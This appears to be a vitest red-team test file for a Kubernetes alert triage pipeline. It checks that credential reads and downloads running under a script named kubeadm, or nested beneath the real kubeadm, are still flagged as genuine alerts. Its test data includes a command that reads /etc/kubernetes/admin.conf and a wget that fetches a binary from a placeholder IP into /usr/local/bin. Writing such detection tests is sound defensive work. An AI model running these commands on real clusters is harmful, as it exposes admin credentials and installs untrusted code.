/**
 * Red-team traps for kubeadm-maintenance's host work (kubeadm, or a program it runs, while the audit log shows
 * kubeadm's requests from that node): "kubeadm" was any name anywhere in the chain, and with no file named, anything
 * under it was kubeadm's work. During an administrator's `kubeadm certs renew`, an intruder on the node runs
 * `cat /etc/kubernetes/admin.conf` from a script they named kubeadm, or a download a few levels under the real one. The process must
 * be the kubeadm binary itself (not a script by that name), or one of the host programs kubeadm runs, as its child.
 */
import { describe, expect, it } from 'vitest';
import { triageAlert } from '../../../src/triage/pipeline.js';
import { buildIndex } from '../../../src/cluster/index.js';
import type { AuditActivity } from '../../../src/cluster/model.js';
import type { ProcessInfo } from '../../../src/alerts/model.js';
import { alert, node, snapshot } from '../../support/cluster.js';

const CP = 'plant-cp-1';
const kubeadmRequest: AuditActivity = {
  time: '2027-03-16T07:02:58.000Z',
  user: 'kubernetes-admin',
  groups: ['kubeadm:cluster-admins', 'system:authenticated'],
  verb: 'get',
  resource: 'configmaps',
  namespace: 'kube-system',
  name: 'kubeadm-config',
  sourceIps: ['172.22.10.11'],
  userAgent: 'kubeadm/v1.30.7 (linux/amd64) kubernetes/0c76c6b',
  code: 200,
};
const s = snapshot([node(CP, '172.22.10.11')]);
s.auditActivities = [kubeadmRequest];
const index = buildIndex([s]);
const run = (process: ProcessInfo, ancestors: ProcessInfo[], file?: string) =>
  triageAlert(alert({ host: CP, time: '2027-03-16T07:05:00Z', title: 'Sensitive file access', process, ancestors, file }), { index }).verdict;
const fakeKubeadm: ProcessInfo = { name: 'kubeadm', path: '/root/kubeadm', commandLine: '/bin/sh /root/kubeadm certs renew all' };

describe('redteam2 kubeadm-maintenance: work under something named kubeadm', () => {
  it('trap: cat /etc/kubernetes/admin.conf under a script named kubeadm stays genuine', () => {
    expect(run({ name: 'cat', path: '/usr/bin/cat', commandLine: 'cat /etc/kubernetes/admin.conf' }, [fakeKubeadm, { name: 'bash', commandLine: '-bash' }]).label).toBe('genuine');
  });
  it('trap: a download to /usr/local/bin three levels under something named kubeadm stays genuine', () => {
    expect(
      run({ name: 'wget', path: '/usr/bin/wget', commandLine: 'wget -q http://198.51.100.7/k -O /usr/local/bin/kubelet-check' }, [{ name: 'sh', commandLine: 'sh -c wget' }, { name: 'python3', commandLine: 'python3 /opt/x.py' }, { name: 'kubeadm', path: '/usr/bin/kubeadm', commandLine: 'kubeadm certs renew all' }]).label,
    ).toBe('genuine');
  });
  it('still kubeadm: kubeadm certs renew writing its own certificate', () => {
    expect(run({ name: 'kubeadm', path: '/usr/bin/kubeadm', commandLine: 'kubeadm certs renew apiserver' }, [{ name: 'sudo', path: '/usr/bin/sudo' }], '/etc/kubernetes/pki/apiserver.crt').label).toBe('likely-false-positive');
  });
});
